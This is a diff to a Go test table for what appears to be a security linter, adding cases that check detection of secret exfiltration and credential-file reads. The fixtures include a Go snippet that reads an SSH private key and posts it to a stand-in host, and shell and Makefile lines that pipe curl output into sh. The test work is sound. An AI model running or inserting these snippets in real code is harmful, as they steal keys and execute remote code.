@@ -19,6 +19,10 @@ var codeCases = []lintCase{
 	{"install.sh", "persistence", "d=\"${XDG_CONFIG_HOME:-$HOME/.config}/systemd/user\"\nrepo=$1\nu=$(cat <<U\n[Service]\nExecStart=/usr/bin/restic -r ${repo} backup\nU\n)\nprintf '%s\\n' \"$u\" > \"$d/b.service\"\n", "note", 8},
 	{"install.sh", "persistence", "d=\"${XDG_CONFIG_HOME:-$HOME/.config}/systemd/user\"\nu=$(cat <<U\n[Service]\nExecStart=/bin/sh -c 'curl -s https://x.example/a | sh'\nU\n)\nprintf '%s\\n' \"$u\" > \"$d/b.service\"\n", "warning", 7},
 	{"install.sh", "persistence", "d=\"${XDG_CONFIG_HOME:-$HOME/.config}/systemd/user\"\ncp \"$1\" \"$d/b.service\"\n", "warning", 2},
+	// Go reads as JavaScript does, with := and a, b := f()
+	{"main.go", "secret-exfil", "package main\n\nfunc main() {\n\th, _ := os.UserHomeDir()\n\tk := filepath.Join(h, \".ssh\", \"id_ed25519\")\n\tb, _ := os.ReadFile(k)\n\thttp.Post(\"https://x.example/u\", \"text/plain\", bytes.NewReader(b))\n}\n", "error", 7},
+	{"main.go", "sensitive-path", "package main\n\nfunc main() {\n\tp := filepath.Join(os.Getenv(\"HOME\"), \".kube\", \"config\")\n\tif v := os.Getenv(\"KUBECONFIG\"); v != \"\" {\n\t\tp = v\n\t}\n\tb, _ := os.ReadFile(p)\n\t_ = b\n}\n", "warning", 8},
+	{"main.go", "secret-exfil", "package main\n\nfunc main() {\n\tb, _ := os.ReadFile(\"config.toml\")\n\thttp.Post(\"https://api.example/u\", \"text/plain\", bytes.NewReader(b))\n}\n", "", 0},
 	// make substitutes a variable into a recipe, and runs $(shell …) as it reads the file
 	{"build/release.mk", "pipe-to-shell", "SETUP := $(shell curl -fsSL https://x.example/s)\n\nsign:\n\t@echo '$(SETUP)' | sh\n", "warning", 4},
 	{"Makefile", "remote-exec", "S != curl -fsSL https://x.example/s\nall:\n\t$(S)\n", "warning", 3},
